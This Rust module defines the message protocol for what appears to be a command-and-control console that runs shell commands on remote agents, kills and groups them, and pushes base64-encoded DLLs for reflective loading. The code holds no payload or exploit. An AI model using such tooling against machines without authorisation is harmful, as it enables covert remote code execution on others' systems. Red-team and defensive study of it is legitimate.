//! Wire protocol between the console and the backend
//!
//! Every frame is a JSON object carrying a `type` discriminator. Outbound
//! frames are modelled as [`ClientMessage`]; inbound frames are first read as
//! an [`InboundFrame`] (raw body + string type, if any) so that unknown or
//! typeless frames still reach listeners, then read into the payloads below
//! field by field.

use crate::state::{Agent, AgentId, CommandHistoryEntry};
use base64::Engine;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use tracing::warn;

/// Frame types the dispatcher handles itself
pub mod types {
    /// Full roster replacement
    pub const AGENT_UPDATE: &str = "agentUpdate";
    /// Result of `executeCommand`
    pub const COMMAND_RESPONSE: &str = "commandResponse";
    /// Result of `pingAgent`
    pub const PING_RESPONSE: &str = "pingResponse";
    /// Result of `killAgent`
    pub const KILL_RESPONSE: &str = "killResponse";
    /// Result of `groupAgent`
    pub const GROUP_RESPONSE: &str = "groupResponse";
    /// Server-side failure
    pub const ERROR: &str = "error";
}

/// Messages sent from the console to the backend
#[derive(Serialize, Deserialize, Debug, Clone, PartialEq)]
#[serde(tag = "type")]
pub enum ClientMessage {
    /// Ask for the full agent roster
    #[serde(rename = "getAgents")]
    GetAgents,
    /// Run a shell command on an agent
    #[serde(rename = "executeCommand", rename_all = "camelCase")]
    ExecuteCommand {
        /// Target agent
        agent_id: AgentId,
        /// Command line to run
        command: String,
    },
    /// Ping an agent
    #[serde(rename = "pingAgent", rename_all = "camelCase")]
    PingAgent {
        /// Target agent
        agent_id: AgentId,
    },
    /// Kill an agent
    #[serde(rename = "killAgent", rename_all = "camelCase")]
    KillAgent {
        /// Target agent
        agent_id: AgentId,
    },
    /// Assign an agent to a group
    #[serde(rename = "groupAgent", rename_all = "camelCase")]
    GroupAgent {
        /// Target agent
        agent_id: AgentId,
        /// Group to assign
        group_name: String,
    },
    /// Load a DLL reflectively on an agent and call one of its exports
    #[serde(rename = "executeReflectiveLoading", rename_all = "camelCase")]
    ExecuteReflectiveLoading {
        /// Target agent
        agent_id: AgentId,
        /// Base64-encoded DLL image
        payload: String,
        /// Exported function to invoke
        function_name: String,
    },
}

impl ClientMessage {
    /// Build an `executeReflectiveLoading` request from raw DLL bytes
    pub fn reflective_loading(
        agent_id: impl Into<AgentId>,
        payload: &[u8],
        function_name: impl Into<String>,
    ) -> Self {
        ClientMessage::ExecuteReflectiveLoading {
            agent_id: agent_id.into(),
            payload: base64::engine::general_purpose::STANDARD.encode(payload),
            function_name: function_name.into(),
        }
    }
}

/// An inbound frame that parsed as JSON
///
/// `kind` is the `type` field when it is a string. Frames without one are
/// still dispatched: they match no built-in handler and no exact-type
/// listener, but `All` listeners see them.
#[derive(Debug, Clone, PartialEq)]
pub struct InboundFrame {
    kind: Option<String>,
    body: Value,
}

impl InboundFrame {
    /// Parse a text frame
    ///
    /// Fails only if the text is not JSON.
    pub fn parse(text: &str) -> Result<Self, FrameError> {
        let body: Value = serde_json::from_str(text)?;
        let kind = body.get("type").and_then(Value::as_str).map(str::to_string);
        Ok(Self { kind, body })
    }

    /// Value of the `type` field, if it is a string
    pub fn kind(&self) -> Option<&str> {
        self.kind.as_deref()
    }

    /// Whole frame as JSON
    pub fn body(&self) -> &Value {
        &self.body
    }

    /// Agents carried by an `agentUpdate` frame
    ///
    /// A missing or non-array `agents` field yields an empty roster.
    /// Elements that are not valid agents are skipped.
    pub fn agents(&self) -> Vec<Agent> {
        let Some(items) = self.body.get("agents").and_then(Value::as_array) else {
            return Vec::new();
        };
        items
            .iter()
            .filter_map(|item| match Agent::deserialize(item) {
                Ok(agent) => Some(agent),
                Err(e) => {
                    warn!("Skipping malformed agent in roster update: {}", e);
                    None
                }
            })
            .collect()
    }

    /// Field rendered as text
    /// Strings are taken as is, other non-null values as their JSON text
    fn text(&self, field: &str) -> Option<String> {
        match self.body.get(field)? {
            Value::Null => None,
            Value::String(s) => Some(s.clone()),
            other => Some(other.to_string()),
        }
    }

    /// Field read as a flag: null, false, 0 and "" are false, anything else true
    fn flag(&self, field: &str) -> bool {
        match self.body.get(field) {
            None | Some(Value::Null) => false,
            Some(Value::Bool(b)) => *b,
            Some(Value::Number(n)) => n.as_f64().is_some_and(|n| n != 0.0),
            Some(Value::String(s)) => !s.is_empty(),
            Some(Value::Array(_)) | Some(Value::Object(_)) => true,
        }
    }
}

/// Reasons an inbound frame is dropped
#[derive(thiserror::Error, Debug)]
pub enum FrameError {
    /// Not valid JSON
    #[error("Malformed frame: {0}")]
    Json(#[from] serde_json::Error),
}

/// Body shared by `commandResponse`, `pingResponse`, `killResponse` and
/// `groupResponse` frames
///
/// Read field by field so one odd value never hides the rest of the frame.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct ActionResponse {
    /// Agent the action targeted
    pub agent_id: AgentId,
    /// Whether the action succeeded
    pub success: bool,
    /// Failure reason
    pub error: Option<String>,
    /// Command line (`commandResponse` only)
    pub command: Option<String>,
    /// Command output (`commandResponse` only)
    pub output: Option<String>,
    /// Group name (`groupResponse` only)
    pub group_name: Option<String>,
    /// Free-form status text
    pub message: Option<String>,
    /// Server-side timestamp, exactly as sent
    pub timestamp: Option<Value>,
}

impl ActionResponse {
    /// Read a response out of a frame
    pub fn from_frame(frame: &InboundFrame) -> Self {
        Self {
            agent_id: frame.text("agentId").unwrap_or_default(),
            success: frame.flag("success"),
            error: frame.text("error"),
            command: frame.text("command"),
            output: frame.text("output"),
            group_name: frame.text("groupName"),
            message: frame.text("message"),
            timestamp: frame.body.get("timestamp").filter(|v| !v.is_null()).cloned(),
        }
    }

    /// Failure reason, or an empty string
    pub fn error_text(&self) -> &str {
        self.error.as_deref().unwrap_or_default()
    }

    /// History entry for a `commandResponse`
    pub fn to_history_entry(&self) -> CommandHistoryEntry {
        CommandHistoryEntry {
            agent_id: self.agent_id.clone(),
            command: self.command.clone().unwrap_or_default(),
            timestamp: self.timestamp.clone(),
            success: self.success,
            error: self.error.clone(),
            output: self.output.clone(),
        }
    }
}

/// Body of an `error` frame
#[derive(Debug, Clone, PartialEq, Default)]
pub struct ServerError {
    /// Server-supplied error text
    pub message: String,
}

impl ServerError {
    /// Read the error text out of a frame
    pub fn from_frame(frame: &InboundFrame) -> Self {
        Self {
            message: frame.text("message").unwrap_or_default(),
        }
    }
}
